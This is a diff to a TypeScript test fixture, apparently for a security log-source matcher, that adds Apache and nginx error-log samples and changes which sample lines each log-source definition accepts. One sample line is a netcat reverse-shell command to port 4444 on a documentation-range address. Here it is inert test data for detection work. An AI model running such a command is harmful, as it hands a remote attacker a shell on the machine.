@@ -25,6 +25,8 @@ const lines = {
   json: '{"eventType":"x"}',
   wrapped: '{"integration":"aws","aws":{"source":"cloudtrail"}}',
   plain: 'nc -e /bin/sh 192.0.2.7 4444',
+  apacheError: '[Tue Nov 24 10:00:00.123456 2026] [core:error] [pid 7] [client 192.0.2.7:5] AH00126: x',
+  nginxError: '2026/11/24 10:00:00 [error] 7#7: *1 open() failed',
   cisco: `${header}%PARSER-5-CFGLOG_LOGGEDCMD: User:alice  logged command:show run`,
 } as const;
 
@@ -32,8 +34,11 @@ const lines = {
 const takes: readonly (readonly [logSource: string, lines: readonly (keyof typeof lines)[]])[] = [
   ['category: webserver', ['access', 'proxied']],
   ['category: proxy', ['proxied']],
-  ['service: nginx', ['access', 'proxied', 'plain']],
-  ['product: linux', ['sshd', 'sudo', 'audit', 'plain', 'cisco']],
+  ['service: nginx', ['access', 'proxied', 'nginxError']],
+  ['product: apache, service: error', ['apacheError']],
+  ['product: apache, service: access', ['access', 'proxied']],
+  ['product: modsecurity', ['apacheError', 'nginxError']],
+  ['product: linux', ['sshd', 'sudo', 'audit']],
   ['product: linux, service: sshd', ['sshd']],
   ['product: linux, service: sudo', ['sudo']],
   ['product: linux, service: auth', ['sshd', 'sudo']],
@@ -46,12 +51,29 @@ const takes: readonly (readonly [logSource: string, lines: readonly (keyof typeo
   ['product: aws, service: cloudtrail', ['wrapped']],
   ['product: gcp, service: gcp.audit', []],
   ['product: cisco, service: aaa', ['cisco']],
-  ['category: firewall', []],
-  ['product: django, category: application', ['sshd', 'sudo', 'json', 'plain', 'cisco']],
+  ['category: firewall', ['cisco']],
+  ['product: fortigate', []],
+  ['service: netflow', ['json']],
+  [
+    'product: django, category: application',
+    ['sshd', 'sudo', 'json', 'plain', 'apacheError', 'nginxError', 'cisco'],
+  ],
   ['category: antivirus', ['json']],
   [
     'definition: any event at all',
-    ['access', 'proxied', 'sshd', 'sudo', 'audit', 'json', 'wrapped', 'plain', 'cisco'],
+    [
+      'access',
+      'proxied',
+      'sshd',
+      'sudo',
+      'audit',
+      'json',
+      'wrapped',
+      'plain',
+      'apacheError',
+      'nginxError',
+      'cisco',
+    ],
   ],
 ];
 
